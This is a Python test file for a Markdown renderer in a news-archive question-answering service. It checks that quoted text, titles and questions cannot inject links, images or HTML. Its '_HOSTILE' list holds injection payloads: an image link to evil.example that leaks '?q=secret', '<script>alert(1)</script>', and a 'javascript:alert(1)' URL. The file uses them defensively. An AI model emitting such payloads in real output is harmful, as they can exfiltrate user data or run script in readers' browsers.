"""Answers as Markdown."""

import re
from dataclasses import replace
from datetime import date
from itertools import pairwise
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from index.local.archive import LocalArchive
from index.types import Article, Filter, Span
from qa.ask import Asker
from qa.service.markdown import render
from qa.types import Answer, Citation
from tests.fakes import HashEmbedder, build_archive, identifier
from tests.qa.service.open_webui import chips

_OURS = "https://news.example/"
_HALVES = ("half an image ![click", "half a tag <a href='", "here](https://evil.example) is the other half")
_HOSTILE = [
    "![x](https://evil.example/p.png?q=secret)",
    "[click here](https://evil.example)",
    "[click here][ref] and [ref]: https://evil.example",
    "<img src=https://evil.example/p.png>",
    "<script>alert(1)</script>",
    "<https://evil.example>",
    "https://evil.example/bare",
    "www.evil.example",
    "**bold** and _leaning_ and ~~struck~~",
    "`code` and ``more ` code``",
    "a ` alone",
    "&lt;b&gt; &#33; &amp;",
    "back\\slash \\* \\[",
    "[1] as our own marker, and [2](https://evil.example)",
    "# not a heading",
    "- not a list",
    "> not a quotation",
    "1. not a list",
    "half a link [click",
    *_HALVES,
    "L’été 🏊 commence mal",
    "``` fence",
    "`begins and ends`",
    "[il] a dit : « non » (voir p. 3) ; 5 * 3 = 15",
]


def _url(article: Article, span: Span | None = None) -> str:
    return f"{_OURS}{article.id}" + (f"@{span[0]}" if span else "")


def _answer(*texts: str, title: str = "La piscine", source: str | None = None) -> Answer:
    """Return an answer that quotes each text from an article of its own."""
    citations = []
    for n, text in enumerate(texts, start=1):
        article = Article(str(n), title, f"Avant. {text} Après.", "fr", source=source)
        citations.append(Citation(n, article, (7, 7 + len(text)), (0, 0), "en"))
    return Answer("quand ?", "fr", (), None, 1, {}, "1", "", tuple(citations))


def _tokens(text: str) -> list[Token]:
    rendered = MarkdownIt("commonmark").enable(["strikethrough", "table"]).parse(text)
    return [*rendered, *(child for token in rendered for child in token.children or ())]


def _assert_only_ours(text: str) -> None:
    kinds = {"paragraph", "bullet_list", "list_item", "link", "em"}
    allowed = {f"{kind}_{side}" for kind in kinds for side in ("open", "close")}
    allowed |= {"inline", "text", "text_special", "softbreak", "code_inline"}
    for token in _tokens(text):
        assert token.type in allowed, (token.type, token.content, text)
        if token.type == "link_open":
            assert str(token.attrs["href"]).startswith(_OURS)
    # What clients make links of though Markdown does not.
    source = text.replace(f"({_OURS}", "(")
    for token in _tokens(text):
        if token.type == "code_inline":
            source = source.replace(token.content, "")
    assert not re.search(r"(?<!\\)://|www\.", source)


@pytest.mark.parametrize("first", _HOSTILE)
def test_quotes_are_exact_and_their_markup_has_no_effect(first: str) -> None:
    answer = _answer(first, *_HALVES, first)
    markdown = render(answer, _url)
    for citation, quote in zip(answer.citations, markdown.quotes, strict=True):
        assert markdown.text[slice(*quote.span)] == citation.text
    assert all(first.span[1] < second.span[0] for first, second in pairwise(markdown.quotes))
    _assert_chips_show_the_articles_of_their_quotes(answer)
    _assert_only_ours(markdown.text)


def test_a_quote_without_markup_is_not_code() -> None:
    quote = "L’été 🏊 commence [mal], dit-il : « 5 + 3 = 8 » (voir p. 3) ; @piscine, 50 %, 10 $ & plus !"
    assert render(_answer(quote), _url).text.startswith(f"{quote} [1]\n")


@pytest.mark.parametrize("hostile", _HOSTILE)
def test_titles_outlets_and_questions_are_shown_as_they_are(hostile: str) -> None:
    markdown = render(_answer("Elle ferme.", title=hostile, source=hostile), _url, question=hostile)
    _assert_only_ours(markdown.text)
    shown = "".join(token.content for token in _tokens(markdown.text) if token.type.startswith("text"))
    expected = f"{hostile}Elle ferme. [1]Sources :[1] {hostile} · {hostile}"
    assert shown.split() == expected.split()


def test_a_url_cannot_end_its_link() -> None:
    markdown = render(_answer("Elle ferme."), lambda *_: f"{_OURS}a)b`c <d>\\")
    targets = {token.attrs["href"] for token in _tokens(markdown.text) if token.type == "link_open"}
    assert targets == {f"{_OURS}a%29b%60c%20%3Cd%3E%5C"}


def test_an_article_that_is_quoted_twice_has_one_number_and_is_listed_once() -> None:
    article = Article("a", "La piscine", "Elle ferme. Elle rouvre.", "fr", date(2026, 2, 10), "Courrier")
    citations = (
        Citation(1, article, (0, 11), (0, 0), "en"),
        *_answer("", "Non.").citations[1:],
        Citation(3, article, (12, 24), (0, 0), "en"),
    )
    markdown = render(replace(_answer(), citations=citations), _url)
    quoted, _, listed = markdown.text.partition("\n\nSources :\n\n")
    assert quoted == "Elle ferme. [1]\n\nNon. [2]\n\nElle rouvre. [1]"
    assert listed == f"- [1] [La piscine]({_OURS}a@0) · Courrier · 2026-02-10\n- [2] [La piscine]({_OURS}2@7)"
    assert [quote.url for quote in markdown.quotes] == [f"{_OURS}a@0", f"{_OURS}2@7", f"{_OURS}a@0"]


def test_other_sources_of_a_quote_are_listed_after_its_own() -> None:
    one, other = (Article(id_, id_.upper(), "Elle ferme.", "fr", None, "Courrier") for id_ in "ab")
    citation = Citation(1, one, (0, 11), (0, 0), "en", other_sources=(other,))
    listed = render(replace(_answer(), citations=(citation,)), _url).text.partition("Sources :\n\n")[2]
    assert listed == f"- [1] [A]({_OURS}a@0) · Courrier; [B]({_OURS}b) · Courrier"


def test_notes_stand_between_the_quotes_and_the_sources() -> None:
    answer = replace(_answer("Elle ferme."), notes=("Aucun passage ne mentionne *Anne* [1].",))
    note = "\n\n*Aucun passage ne mentionne \\*Anne\\* \\[1\\].*\n\n"
    assert render(answer, _url).text.startswith(f"Elle ferme. [1]{note}Sources :\n\n- [1] ")
    refused = replace(answer, citations=(), text="Rien.")
    assert render(refused, _url).text == f"Rien.{note}".rstrip()


def test_the_original_of_a_source_is_linked_beside_the_page() -> None:
    (citation,) = _answer("Elle ferme.").citations
    for url, shown in (("https://www.courrier.example/p?a=(1)", True), ("javascript:alert(1)", False)):
        article = replace(citation.article, url=url)
        text = render(replace(_answer(), citations=(replace(citation, article=article),)), _url).text
        original = " · [www\\.courrier.example](https://www.courrier.example/p?a=%281%29)"
        assert text.endswith(f"- [1] [La piscine]({_OURS}1@7){original if shown else ''}")


_TITLES = [
    "La piscine",
    "La piscine",
    "La piscine (2)",
    "2026",
    "1, 2",
    "[2]",
    "3#a",
    "12 morts",
    "`4`",
    "",
    "",
    "É 🏊",
]


def _assert_chips_show_the_articles_of_their_quotes(answer: Answer) -> None:
    markdown = render(answer, _url)
    annotations = [
        {"url_citation": {"url": quote.url, "title": quote.title, "start_index": quote.span[0]}}
        for quote in markdown.quotes
    ]
    shown = chips(markdown.text, annotations)
    titles = {citation.article.id: citation.article.title for citation in answer.citations}
    in_text, in_list = shown[: len(answer.citations)], shown[len(answer.citations) :]
    for citation, quote, chip in zip(answer.citations, markdown.quotes, in_text, strict=True):
        assert quote.span[1] < chip.start <= quote.span[1] + 6, "the chip follows its quote"
        assert chip.url == quote.url
        assert str(chip.url).startswith(f"{_OURS}{citation.article.id}@")
        assert (chip.label or "").startswith(titles[citation.article.id])
    assert [chip.number for chip in in_list] == list(range(1, len(titles) + 1))
    for chip in in_list:
        assert markdown.text[chip.start :].partition("](")[2].startswith(f"{chip.url})")


def test_each_chip_in_open_webui_shows_the_article_that_its_quote_is_from() -> None:
    articles = [
        Article(f"{n}x", title, f"L’été 🏊 {n}. Elle ferme [1]. Puis `{n}`. Fin.", "fr")
        for n, title in enumerate(_TITLES)
    ]
    order = [*articles, articles[3], articles[0], *reversed(articles)]
    spans = [article.text.index(part) for article, part in zip(order, "LEPF" * 9, strict=False)]
    citations = tuple(
        Citation(n, article, (start, article.text.index(".", start) + 1), (0, 0), "fr")
        for n, (article, start) in enumerate(zip(order, spans, strict=True), start=1)
    )
    _assert_chips_show_the_articles_of_their_quotes(replace(_answer(), citations=citations))


def test_an_article_without_a_title_is_linked_by_its_address() -> None:
    text = render(_answer("Elle ferme.", title=""), _url).text
    assert text.endswith(f"- [1] [https\\://news.example/1@7]({_OURS}1@7)")


def test_a_disputed_answer_says_so_and_which_answer_each_quote_gives() -> None:
    answer = _answer("Elle ferme.", "Elle rouvre.", "Elle est *neuve*.")
    sided = [replace(each, side=side) for each, side in zip(answer.citations, (2, None, 1), strict=True)]
    disputed = replace(answer, citations=tuple(sided), notes=("Les sources diffèrent.",), language="fr")
    markdown = render(disputed, _url)
    assert markdown.text.startswith(
        "Elle ferme. [1] *Réponse 2*\n\nElle rouvre. [2]\n\n`Elle est *neuve*.` [3] *Réponse 1*\n\n"
        "*Les sources diffèrent.*\n\nSources :"
    )
    assert [markdown.text[slice(*quote.span)] for quote in markdown.quotes] == [each.text for each in sided]


def test_parts_make_up_the_whole_and_each_quote_is_in_one() -> None:
    answer = _answer("Elle ferme.", "Elle rouvre.", "Elle est neuve.")
    markdown = render(answer, _url, question="et la piscine ?")
    assert markdown.text == "".join(markdown.parts)
    assert markdown.text.startswith("*et la piscine ?*\n\n")
    assert all(any(citation.text in part for part in markdown.parts) for citation in answer.citations)


def test_without_an_answer_the_nearest_passages_are_shown_and_nothing_is_quoted(tmp_path: Path) -> None:
    data = build_archive(
        tmp_path, {f"{n}.txt": f"La piscine {n} ferme. {_HOSTILE[0]} " + "mot " * 200 for n in range(5)}
    )
    with LocalArchive(data) as archive:
        asker = Asker(archive, HashEmbedder(), identifier())
        found = asker.ask("la piscine ferme")
        nothing = asker.ask("la piscine ferme", filters=Filter(published_from=date(2100, 1, 1)))
    answer = replace(found, text=nothing.text, citations=())
    markdown = render(answer, _url)
    assert markdown.text.startswith(
        "Aucun passage des archives ne répond à cette question.\n\nLes passages les plus proches :\n\n- ["
    )
    assert markdown.text.count("\n- ") == 3
    assert markdown.quotes == ()
    _assert_only_ours(markdown.text)
    assert render(nothing, _url).text == nothing.text
